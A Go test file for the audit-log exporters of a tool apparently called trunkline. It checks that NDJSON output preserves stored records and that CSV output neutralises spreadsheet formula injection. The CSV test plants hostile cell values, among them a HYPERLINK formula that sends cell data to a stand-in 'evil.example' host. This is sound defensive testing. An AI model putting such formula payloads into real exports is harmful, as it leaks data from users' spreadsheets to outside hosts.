package audit_test

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/trunkline/trunkline/apply"
	"github.com/trunkline/trunkline/audit"
	"github.com/trunkline/trunkline/gitsync"
)

var update = flag.Bool("update", false, "rewrite golden files")

func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

// Whoever reads lines of JSON can check the chain by itself.
func TestLinesHoldTheRecordsAsTheyAreStored(t *testing.T) {
	t.Parallel()
	b := openBus(t, t.TempDir())
	log, _ := b.running()
	told(t, log)
	awkward := decided(4, "prod")
	awkward.Commit.Subject = "<b>& \u2028 \" \\ \x01 ü"
	record(t, log, []apply.Decision{awkward}, nil)
	b.forge("trunkline.audit.x", "{\n\"kind\": \"commit\"}")

	a := query(t, log, audit.Query{Oldest: true, Limit: 11})
	if !a.Truncated || a.Next != 11 {
		t.Errorf("truncated %t, next %d", a.Truncated, a.Next)
	}
	a.Entries = append(a.Entries, query(t, log, audit.Query{Limit: 1}).Entries...)
	var out bytes.Buffer
	lines := audit.NewNDJSON(&out)
	for _, e := range a.Entries {
		if err := lines.Write(e); err != nil {
			t.Fatal(err)
		}
	}
	if err := lines.End(a); err != nil {
		t.Fatal(err)
	}
	raw := b.raw()
	scan := bufio.NewScanner(&out)
	for i := 0; scan.Scan(); i++ {
		if i == len(raw) {
			if scan.Text() != `{"truncated":true,"next":11}` {
				t.Errorf("the end is %s", scan.Text())
			}
			break
		}
		var line struct {
			Sequence uint64
			SHA256   string
			Record   json.RawMessage
		}
		if err := json.Unmarshal(scan.Bytes(), &line); err != nil {
			t.Fatal(err)
		}
		if line.Sequence != uint64(i+1) || line.SHA256 != sum(raw[i].Data) {
			t.Errorf("line %d: %s", i, scan.Text())
		}
		if i < len(raw)-1 && !bytes.Equal(line.Record, raw[i].Data) {
			t.Errorf("record %d is written as %s", line.Sequence, line.Record)
		}
	}
	if err := lines.End(&audit.Answer{}); err != nil || out.Len() > 0 {
		t.Errorf("%s, %v", &out, err)
	}
}

// No cell begins as a formula does, and each is one cell, whatever strangers write.
func TestTablesAreHarmless(t *testing.T) {
	t.Parallel()
	b := openBus(t, t.TempDir())
	log, _ := b.running()
	told(t, log)
	evil := decided(4, "prod")
	evil.Commit.Subject = `=HYPERLINK("https://evil.example/?"&A1,"x")`
	evil.Commit.Author = gitsync.Person{Name: "+1,\"2\"\r\n3", Email: "@SUM(1)"}
	evil.Commit.CoAuthors = []gitsync.Person{{Name: "-1"}}
	evil.Signer = &gitsync.Signer{Principal: "\t=1", Fingerprint: "  =1"}
	record(t, log, []apply.Decision{evil}, nil)
	note(t, log, audit.Event{Kind: "storm", At: epoch, By: "＝1", Reason: "-2+3", Details: map[string]string{"=": "="}})

	table := func(entries ...audit.Entry) string {
		var out strings.Builder
		w := audit.NewCSV(&out)
		for _, e := range entries {
			if err := w.Write(e); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		return out.String()
	}
	entries := query(t, log, audit.Query{Oldest: true}).Entries
	text := table(entries...)
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(rows) != 1+len(entries) {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for i, cell := range row {
			if first, _ := utf8.DecodeRuneInString(strings.TrimLeft(cell, " ")); cell != "" && strings.ContainsRune("=+-@\t\r\n＝", first) {
				t.Errorf("column %s holds %q", rows[0][i], cell)
			}
		}
	}
	if bare := strings.ReplaceAll(text, "\r\n", ""); strings.ContainsAny(bare, "\r\n") {
		t.Error("a line does not end with CR LF")
	}
	if empty := table(); strings.Count(empty, "\r\n") != 1 || !strings.HasPrefix(empty, "sequence,stored,sha256,at,kind,") {
		t.Errorf("without entries %q", empty)
	}
	golden(t, "records.csv", table(stamped(t, entries)...))
}

// stamped are entries as they would be had they been stored at one moment: what differs from run to run is left out.
func stamped(t *testing.T, entries []audit.Entry) []audit.Entry {
	t.Helper()
	var all []audit.Entry
	for _, e := range entries {
		r := *e.Record
		if r.Kind == audit.KindSettings {
			r.At = epoch
		}
		all = append(all, audit.Entry{Sequence: e.Sequence, Stored: epoch, Record: &r})
	}
	return all
}
